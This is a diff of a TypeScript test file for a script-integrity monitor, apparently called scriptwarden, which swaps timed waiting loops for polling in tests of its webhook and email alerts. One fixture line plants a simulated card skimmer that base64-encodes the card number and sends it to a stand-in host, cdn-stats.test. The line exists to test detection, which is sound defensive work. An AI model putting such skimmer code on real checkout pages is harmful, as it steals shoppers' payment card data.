@@ -5,7 +5,7 @@ import assert from 'node:assert/strict';
 import { createHash, createHmac } from 'node:crypto';
 import { writeFileSync } from 'node:fs';
 import { join } from 'node:path';
-import { afterAll, beforeAll, describe, it } from 'vitest';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import Database from 'better-sqlite3';
 import yauzl from 'yauzl';
 import { baselinedShop, type Scenario } from './scenario.js';
@@ -96,15 +96,17 @@ describe('continuous monitoring (serve)', () => {
     assert.match(text, /^# TYPE scriptwarden_scan_failures_total counter$/m);
   });
 
-  it('sends a signed webhook within three intervals of a tampered script, and an email after the server refused it once', async () => {
+  it('sends a signed webhook from the first scans after a tampered script, and an email after the server refused it once', async () => {
     smtp.refuseNext(1);
-    const tamperedAt = Date.now();
+    const tamperedAt = new Date().toISOString();
     s.site.set('shop.test', '/static/app.js', `${APP_JS}\ndocument.getElementById('pay').addEventListener('mouseup', function () { new Image().src = 'http://cdn-stats.test:${s.site.port}/p?d=' + btoa(document.forms[0].cardnumber.value); });`);
-    const deadline = tamperedAt + 3 * INTERVAL_MS + 1500;
-    while (Date.now() < deadline && !hook.received.some((r) => r.path === '/hook')) await new Promise((r) => setTimeout(r, 100));
+    // Counted in scans, not seconds: on a loaded machine a scan takes longer than its 2 s interval.
+    await expect.poll(() => hook.received.some((r) => r.path === '/hook'), { timeout: 60_000, interval: 100 }).toBe(true);
     const delivery = hook.received.find((r) => r.path === '/hook');
-    assert.ok(delivery, `a webhook arrived within 3 intervals; logs:\n${serve.logs.map((l) => l.message).join('\n')}`);
-    assert.ok(delivery.at - tamperedAt <= 3 * INTERVAL_MS + 1500, `arrived after ${delivery.at - tamperedAt} ms`);
+    assert.ok(delivery, `a webhook arrived; logs:\n${serve.logs.map((l) => l.message).join('\n')}`);
+    // The scan running when the script changed may have loaded the old one; the next one must have sent it.
+    const scansBefore = serve.logs.filter((l) => l.event === 'scan.started' && l.time > tamperedAt && Date.parse(l.time) < delivery.at).length;
+    assert.ok(scansBefore <= 2, `sent by the first scan that loaded the tampered script (${scansBefore} scans started before it arrived)`);
     const expected = `sha256=${createHmac('sha256', SECRET).update(delivery.body).digest('hex')}`;
     assert.equal(delivery.headers['x-scriptwarden-signature'], expected, 'the HMAC of the raw body');
     const body = JSON.parse(delivery.body) as { event: string; alert: { id: number; type: string; target: string } };
@@ -113,8 +115,7 @@ describe('continuous monitoring (serve)', () => {
     assert.equal(body.alert.target, 'checkout');
     alertId = body.alert.id;
 
-    const start = Date.now();
-    while (Date.now() - start < 10_000 && smtp.mails.length === 0) await new Promise((r) => setTimeout(r, 100));
+    await expect.poll(() => smtp.mails.length, { timeout: 30_000, interval: 100 }).toBeGreaterThan(0);
     const mail = smtp.mails[0];
     assert.ok(mail, 'the SMTP server received the email');
     assert.equal(smtp.refused, 1, 'the first attempt was refused with 451 and retried');
@@ -140,8 +141,7 @@ describe('continuous monitoring (serve)', () => {
       method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ note: 'skimmer, INC-7', by: 'alice' }),
     });
     assert.equal(response.status, 200);
-    const start = Date.now();
-    while (Date.now() - start < 10_000 && (hook.received.filter((r) => r.path === '/hook').length < 2 || smtp.mails.length < 2)) await new Promise((r) => setTimeout(r, 100));
+    await expect.poll(() => hook.received.filter((r) => r.path === '/hook').length >= 2 && smtp.mails.length >= 2, { timeout: 30_000, interval: 100 }).toBe(true);
     const update = hook.received.filter((r) => r.path === '/hook')[1];
     assert.ok(update, 'a second webhook for the decision');
     assert.equal(update.headers['x-scriptwarden-signature'], `sha256=${createHmac('sha256', SECRET).update(update.body).digest('hex')}`);
